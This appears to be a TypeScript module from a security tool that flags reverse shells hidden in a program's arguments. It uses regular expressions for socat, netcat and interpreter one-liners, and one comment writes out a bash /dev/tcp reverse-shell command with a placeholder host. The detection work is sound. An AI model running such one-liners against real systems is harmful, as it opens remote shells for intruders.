/** Reverse shells that stand in the arguments of a program: what to run, and to where it is joined. */
import type { ProcessFacts } from "../../domain/identity.js"
import { programName } from "../../text/program-name.js"
import type { ToolMatch } from "./tunnel-tools.js"

const shell = /(^|[/\s"'`])(ba|da|z|k|a|c|tc|fi)?sh\b/

/** Code in one argument: a socket, and the descriptors or the terminal of a shell joined to it. */
const codeShapes: readonly { readonly interpreter: RegExp; readonly all: readonly RegExp[] }[] = [
  // bash -i >& /dev/tcp/HOST/PORT 0>&1, and exec 5<>/dev/tcp/... with a shell on 5. A mere port probe has neither.
  { interpreter: /^(ba|z|k)?sh$/, all: [/\/dev\/(tcp|udp)\//, /sh\s+-i|0>&1|0<&\d|<&\d+.*>&\d+/] },
  { interpreter: /^(ba|da|z|k|a)?sh$/, all: [/mkfifo|mknod/, /\b(nc|ncat|netcat|telnet|openssl)\b/, shell] },
  { interpreter: /^python/, all: [/\bsocket\b/, /\bconnect\b/, /dup2|pty\.spawn|subprocess|os\.system/, shell] },
  { interpreter: /^perl/, all: [/socket/i, /connect|PeerAddr/, /exec|system|open/, shell] },
  { interpreter: /^ruby/, all: [/TCPSocket/, /exec|spawn|popen|system/, shell] },
  { interpreter: /^php/, all: [/fsockopen|stream_socket_client/, /exec|system|proc_open|popen|`/, shell] },
  { interpreter: /^node/, all: [/net/, /connect|Socket/, /child_process/, shell] },
  { interpreter: /^lua/, all: [/socket/, /connect|tcp/, /popen|execute/] },
]

const codeOptions = new Set(["-c", "-ic", "-lc", "-e", "-r", "--eval"])

export function shellOneLiner({ exe, argv }: Pick<ProcessFacts, "exe" | "argv">): ToolMatch | undefined {
  const name = programName(exe) || programName(argv[0] ?? "")
  const words = argv.slice(1)
  return socatShell(name, words) ?? netcatShell(name, words) ?? codeShell(name, words)
}

function socatShell(name: string, words: readonly string[]): ToolMatch | undefined {
  if (!/^socat\d?$/.test(name)) return undefined
  const dialled = words.find((word) =>
    /^(tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|ssl|udp[46]?(-connect)?):/i.test(word),
  )
  const run = words.find((word) => /^(exec|system|shell):/i.test(word))
  return dialled !== undefined && run !== undefined ? { tool: "socat", text: `${dialled} ${run}` } : undefined
}

/** -c runs a command in some netcats and asks for TLS in another, so that it counts only with a shell behind it. */
function netcatShell(name: string, words: readonly string[]): ToolMatch | undefined {
  const netcat = /^(nc|ncat|netcat|nc\.traditional)$/.test(name) || (name === "busybox" && words[0] === "nc")
  if (!netcat || words.some((word) => /^(-[a-z]*l[a-z]*|--listen)$/i.test(word))) return undefined
  for (const [i, word] of words.entries()) {
    const next = words[i + 1] ?? ""
    if (/^--(exec|sh-exec|lua-exec)=./.test(word)) return { tool: name, text: word }
    if (next === "") continue
    if (/^(-[a-z]*e|--exec|--sh-exec|--lua-exec)$/.test(word)) return { tool: name, text: `${word} ${next}` }
    if (/^-[a-z]*c$/.test(word) && shell.test(next)) return { tool: name, text: `${word} ${next}` }
  }
  return undefined
}

function codeShell(name: string, words: readonly string[]): ToolMatch | undefined {
  const shapes = codeShapes.filter(({ interpreter }) => interpreter.test(name))
  if (shapes.length === 0) return undefined
  for (const [i, word] of words.entries()) {
    // A script of its own: what follows are its arguments.
    if (!word.startsWith("-")) return undefined
    const code = codeOptions.has(word) ? words[i + 1] : undefined
    if (code === undefined) continue
    if (shapes.some(({ all }) => all.every((part) => part.test(code)))) return { tool: name, text: `${word} ${code}` }
  }
  return undefined
}
